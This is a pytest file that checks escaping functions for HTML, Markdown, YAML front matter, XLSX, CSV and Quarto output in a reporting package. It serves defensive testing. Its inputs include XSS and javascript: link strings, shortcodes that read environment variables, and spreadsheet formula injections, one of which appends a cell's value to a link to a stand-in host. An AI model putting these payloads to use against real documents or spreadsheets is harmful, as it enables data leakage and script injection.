"""kinerja.support.escape and kinerja.support.xlsx: each escaping function against hand-written expected strings,
and against the real consumers (pandoc's Markdown reader, openpyxl read-back, Python's csv reader).
"""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser

import numpy as np
import openpyxl
import pandas as pd
import pytest
import yaml

from kinerja.support import escape, xlsx

# --- text, HTML ----------------------------------------------------------------------------------


def test_text_is_empty_for_missing_values():
    assert [escape.text(v) for v in (None, float("nan"), np.nan, pd.NA, pd.NaT)] == ["", "", "", "", ""]
    assert escape.text(5) == "5" and escape.text("=1") == "=1"


def test_html_text_escapes_markup_quotes_and_breaks_shortcodes():
    assert escape.html_text('<script>alert("x")</script> & \'q\'') == (
        "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#x27;q&#x27;"
    )
    assert escape.html_text("{{< env HOME >}}") == "{{&lt; env HOME &gt;}}"  # Quarto looks for "{{<"
    # a data line "---" must not reach the Markdown document both engines build around HTML outputs
    assert escape.html_text("Pemda\n---\ntitle: bocor\n---\n\n*x*") == "Pemda --- title: bocor --- *x*"
    assert escape.html_text(None) == ""


def test_sentence_puts_markup_on_the_fixed_words_only():
    shown = escape.sentence("Capaian <b>A</b> & [x](javascript:y):", "Turun *1* {{< env HOME >}}.")
    assert shown.html == (
        "<p><strong>Capaian &lt;b&gt;A&lt;/b&gt; &amp; [x](javascript:y):</strong> "
        "Turun *1* {{&lt; env HOME &gt;}}.</p>"
    )
    assert shown.text == "Capaian <b>A</b> & [x](javascript:y): Turun *1* {{< env HOME >}}."
    assert shown._repr_html_() == shown.html and repr(shown) == shown.text
    assert escape.sentence("Metode.").html == "<p><strong>Metode.</strong></p>"


# --- Markdown --------------------------------------------------------------------------------------

MARKDOWN = [
    ("Dinas [Klik](javascript:alert(1))", r"Dinas \[Klik\]\(javascript\:alert\(1\)\)"),
    ('~~coret~~ ^atas^ @kutip "kutip" -- ...', r"\~\~coret\~\~ \^atas\^ \@kutip \"kutip\" \-\- \.\.\."),
    ("{{< env HOME >}}", r"\{\{[]{}\< env HOME \>[]{}\}\}"),
    ("{{{< meta title >}}}", r"\{\{\{[]{}\< meta title \>[]{}\}\}\}"),
    ("a{{</* x */>}}b", r"a\{\{[]{}\<\/\* x \*\/\>[]{}\}\}b"),
    ("# 1. - > x", r"\# 1\. \- \> x"),
    ("$x^2$ <b>tebal</b> `kode`", r"\$x\^2\$ \<b\>tebal\<\/b\> \`kode\`"),
    ("a\\b", r"a\\b"),
    ("1.234,5 % · Sedang", r"1\.234\,5 \% · Sedang"),
    ("Pemda\n---\ntitle: bocor\n---", r"Pemda \-\-\- title\: bocor \-\-\-"),
    ("وزارة الصحة | משרד", r"وزارة الصحة \| משרד"),
]


@pytest.mark.parametrize(("text", "expected"), MARKDOWN)
def test_markdown_text_escapes_every_punctuation_and_breaks_shortcodes(text, expected):
    assert escape.markdown_text(text) == expected
    assert escape.markdown_plain(expected) == " ".join(text.split())  # read back


def test_markdown_plain_leaves_hand_written_markdown_alone():
    assert escape.markdown_plain("Dibuat {tanggal} dengan *kinerja*") == "Dibuat {tanggal} dengan *kinerja*"
    assert escape.markdown_text(None) == "" and escape.markdown_plain(None) == ""


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.text = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)


@pytest.mark.parametrize(("text", "expected"), MARKDOWN)
def test_pandoc_reads_escaped_markdown_as_the_same_text_and_no_markup(text, expected):
    import pypandoc

    for extensions in ("markdown", "markdown+emoji+autolink_bare_uris"):
        out = pypandoc.convert_text(expected, "html5", format=extensions, extra_args=["--wrap=none"])
        parsed = _Elements()
        parsed.feed(out)
        assert all(tag in ("p", "span") and attrs == [] for tag, attrs in parsed.tags), out  # the breaks: empty spans
        assert "".join(parsed.text).strip() == " ".join(text.split())


def test_front_matter_escapes_text_fields_and_keeps_yaml_lines_inside_the_value():
    block = escape.front_matter({"title": "A\n---\ntitle: bocor\n---", "description": "[x](y)", "lang": "id",
                                 "params": {"tahun": 2024}})
    assert block == (
        "---\n"
        "title: 'A \\-\\-\\- title\\: bocor \\-\\-\\-'\n"
        "description: \\[x\\]\\(y\\)\n"
        "lang: id\n"
        "params:\n"
        "  tahun: 2024\n"
        "---"
    )
    assert block.splitlines().count("---") == 2
    assert yaml.safe_load(block.strip("-\n"))["title"] == r"A \-\-\- title\: bocor \-\-\-"


# --- charts ----------------------------------------------------------------------------------------


def test_chart_text_collapses_whitespace_and_keeps_a_leading_underscore_in_legends():
    assert escape.chart_text("_Rendah $x$") == "\u200b_Rendah $x$"
    assert escape.chart_text("Pemda $$ Uji\n---\n") == "Pemda $$ Uji ---"
    assert escape.chart_text("a_b ^c \\d") == "a_b ^c \\d"
    assert escape.chart_text(None) == ""


# --- spreadsheets ----------------------------------------------------------------------------------

FORMULA_LIKE = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")', "+62 812", "-Indikator", "@SUM(1+1)",
                "\t=1+1", "\r=1+1"]


def test_xlsx_text_replaces_only_the_control_characters_xml_cannot_hold():
    assert escape.xlsx_text("a\x00b\x1fc\td\ne\x0bg") == "a\ufffdb\ufffdc\td\ne\ufffdg"
    assert escape.xlsx_text("a\r\nb\rc") == "a\nb\nc"  # XML reads a carriage return as a line feed


def test_write_tables_keeps_every_text_cell_text(tmp_path):
    frame = pd.DataFrame({"nama": [*FORMULA_LIKE, "a\x01b", None], "nilai": [1.5, -2.25, None, 3, 4, 5, 6, 7]})
    path = xlsx.write_tables(tmp_path / "t.xlsx", {"tabel-dengan-nama-yang-sangat-panjang-sekali": frame})
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    assert sheet.title == "tabel-dengan-nama-yang-sangat-p"  # 31 characters
    rows = [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert [row[0] for row in rows[:5]] == [(value, "s") for value in FORMULA_LIKE[:5]]
    assert rows[5][0] == ("\n=1+1", "s")  # the carriage return as XML keeps it: a line feed
    assert rows[6][0] == ("a\ufffdb", "s")
    assert rows[7][0][0] is None
    assert [row[1][0] for row in rows] == [1.5, -2.25, None, 3, 4, 5, 6, 7]  # numbers stay numbers
    assert all(row[1][1] == "n" for row in rows if row[1][0] is not None)
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_save_workbook_keeps_cells_typed_as_formulas_text(tmp_path):
    book = openpyxl.Workbook()
    book.active["A1"] = "=1+1"
    book.active["B1"] = 5
    assert book.active["A1"].data_type == "f"  # what openpyxl does on its own
    xlsx.save_workbook(book, tmp_path / "b.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "b.xlsx").active
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("=1+1", "s")
    assert (sheet["B1"].value, sheet["B1"].data_type) == (5, "n")


def test_validate_report_xlsx_keeps_values_text(tmp_path):
    from kinerja.inputs.findings import Finding
    from kinerja.render.report import write_findings_report

    value = '=HYPERLINK("http://contoh.invalid","Klik")'
    finding = Finding("pk.csv", "", 2, "polaritas", value, "Polaritas tidak dikenal.")
    write_findings_report([finding], tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["temuan"]
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("nilai") + 1)
    assert (cell.value, cell.data_type) == (value, "s")


def test_template_has_no_formula_cell(tmp_path):
    from kinerja.inputs.workbook import write_template

    book = openpyxl.load_workbook(write_template(tmp_path / "pk.xlsx", 2025))
    assert not [c.coordinate for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]


# --- public CSV ------------------------------------------------------------------------------------


@pytest.mark.parametrize(("value", "expected"), [
    ("", ""),
    ("-8.33", "-8.33"),
    ("1e-05", "1e-05"),
    ("+5", "+5"),
    ("1.02", "1.02"),
    ("Dinas", '"Dinas"'),
    ('=HYPERLINK("http://x","y")', '"\'=HYPERLINK(""http://x"",""y"")"'),
    ("+62 812", "\"'+62 812\""),
    ("-Indikator", "\"'-Indikator\""),
    ("@SUM(1)", "\"'@SUM(1)\""),
    ("\t=1", "\"'\t=1\""),
    ("\r=1", "\"'\r=1\""),
    ("a;=1", '"a;=1"'),
    ("-inf", "\"'-inf\""),
    ("nan", '"nan"'),
])
def test_csv_field_follows_the_owasp_advice(value, expected):
    assert escape.csv_field(value) == expected


def test_public_csv_guards_text_cells_and_keeps_numbers(tmp_path):
    from kinerja.publish.stage import public_csv

    frame = pd.DataFrame({"nama": ["=1+1", 'Dinas, "A"\nBaru'], "selisih_poin": [-8.5, None], "kode": ["1.01", "-x"]})
    frame.to_csv(tmp_path / "a.csv", index=False)
    public_csv(tmp_path / "a.csv", tmp_path / "b.csv")
    written = (tmp_path / "b.csv").read_text(encoding="utf-8")
    assert written == '"nama","selisih_poin","kode"\n"\'=1+1",-8.5,1.01\n"Dinas, ""A""\nBaru",,"\'-x"\n'
    rows = list(csv.reader(io.StringIO(written, newline="")))
    assert rows == [["nama", "selisih_poin", "kode"], ["'=1+1", "-8.5", "1.01"], ['Dinas, "A"\nBaru', "", "'-x"]]
    source = (tmp_path / "a.csv").read_text(encoding="utf-8")
    assert source.startswith("nama,selisih_poin,kode\n=1+1,")  # the source is left as it was


@pytest.mark.parametrize(("value", "expected"), [
    ("Dinas Uji", "Dinas Uji"),
    ("Pemda {{< env HOME >}}", "Pemda {{\u200b< env HOME >\u200b}}"),
    ("a\\b \\", "a\\\\b \\\\"),  # a\b \ → doubled: Quarto's \' would end the value early
    ("baris\nbaru  dan\tspasi", "baris baru dan spasi"),
    ("it's [x](javascript:y) <b>", "it's [x](javascript:y) <b>"),  # literal in an attribute value
])
def test_quarto_attribute(value, expected):
    assert escape.quarto_attribute(value) == expected
